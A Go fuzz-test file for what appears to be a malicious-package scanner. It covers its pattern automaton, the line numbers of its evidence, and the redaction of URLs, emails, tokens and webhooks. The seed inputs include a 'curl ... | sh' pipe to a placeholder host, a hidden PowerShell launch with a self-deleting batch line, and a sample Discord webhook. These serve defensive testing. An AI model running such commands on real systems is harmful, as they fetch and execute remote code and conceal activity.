package behavior

import (
	"strings"
	"testing"

	"prevalence/schemas/catalog"
	"prevalence/schemas/message"
)

// FuzzAutomaton compares the automaton with a search for one string after
// another.
func FuzzAutomaton(f *testing.F) {
	f.Add("he,she,his,hers", "ushers")
	f.Add("aa,aaa,a", "aAaa")
	f.Add("\xff\x00,x", "\xff\x00x")
	f.Fuzz(func(t *testing.T, list, text string) {
		var patterns []string
		for p := range strings.SplitSeq(list, ",") {
			if p != "" && len(patterns) < 20 && len(p) < 50 {
				patterns = append(patterns, p)
			}
		}
		a, err := newAutomaton(patterns)
		if err != nil {
			return
		}
		type hit struct{ pattern, end int }
		got := make(map[hit]int)
		a.find([]byte(text), func(p, end int) { got[hit{p, end}]++ })
		fold := func(s string) string {
			b := []byte(s)
			for i := range b {
				b[i] = lower(b[i])
			}
			return string(b)
		}
		want := 0
		folded := fold(text)
		for i, p := range patterns {
			for end := len(p); end <= len(folded); end++ {
				if folded[end-len(p):end] == fold(p) {
					want++
					if got[hit{i, end}] != 1 {
						t.Errorf("%q at %d of %q was reported %d times", p, end, text, got[hit{i, end}])
					}
				}
			}
		}
		if want != len(got) {
			t.Errorf("%d hits, want %d", len(got), want)
		}
	})
}

// FuzzText gives arbitrary bytes to the matchers of members that are no
// Python: whatever they hold, evidence stands on a line of the text.
func FuzzText(f *testing.F) {
	c, err := catalog.Default()
	if err != nil {
		f.Fatal(err)
	}
	m, err := Compile(c)
	if err != nil {
		f.Fatal(err)
	}
	f.Add([]byte("#!/bin/sh\ncurl https://example.invalid/x | sh\n"), uint8(Shell))
	f.Add([]byte("[build-system]\nbackend-path = ['.']\n"), uint8(Pyproject))
	f.Add([]byte("powershell -w hidden\r\ndel %~f0"), uint8(Batch))
	f.Fuzz(func(t *testing.T, data []byte, kind uint8) {
		r := m.Release()
		r.Text("member", TextKind(kind), data, message.ContextInstall)
		obs, _, _ := r.Result()
		lines := strings.Count(string(data), "\n") + 1
		for _, o := range obs {
			for _, e := range o.Evidence {
				if e.Line < 1 || e.Line > lines || e.Path != "member" || len(e.Fingerprint) != 16 {
					t.Errorf("%s: %+v of %d lines", o.Behavior, e, lines)
				}
			}
		}
	})
}

// FuzzIndicator looks for values that keep what must not leave a scan: user
// information, queries, local parts of addresses, secrets.
func FuzzIndicator(f *testing.F) {
	for i, s := range []string{"1.1.1.1", "2606:4700::1111", "https://u:p@h.dev:80/a?q#f", "h.dev", "a@b.dev", "", "", "", "bitcoin:1x", "github:ghp_0123", "https://discord.com/api/webhooks/1/x"} {
		f.Add(byte(i), s)
	}
	m := compile(f, rules)
	f.Fuzz(func(t *testing.T, kind byte, s string) {
		sk := int(kind)%numStringKinds + 1
		r := m.Release()
		r.Key = []byte("key")
		name, value := r.indicator(sk, s)
		if (name == "") && value != "" {
			t.Errorf("a value without a kind: %q", value)
		}
		switch name {
		case "url":
			authority, _, _ := strings.Cut(strings.TrimPrefix(value[strings.Index(value, ":")+1:], "//"), "/")
			if value != "" && (strings.ContainsAny(value, "?#") || strings.Contains(authority, "@")) {
				t.Errorf("%q of %q", value, s)
			}
		case "email-domain":
			if strings.Contains(value, "@") {
				t.Errorf("%q of %q", value, s)
			}
		case "token", "webhook":
			if _, secret, _ := strings.Cut(s, ":"); len(secret) > 8 && strings.Contains(value, secret) {
				t.Errorf("%q of %q", value, s)
			}
		}
		for i := range m.value {
			m.value[i].each(sk, s, func(uint32) {})
		}
	})
}
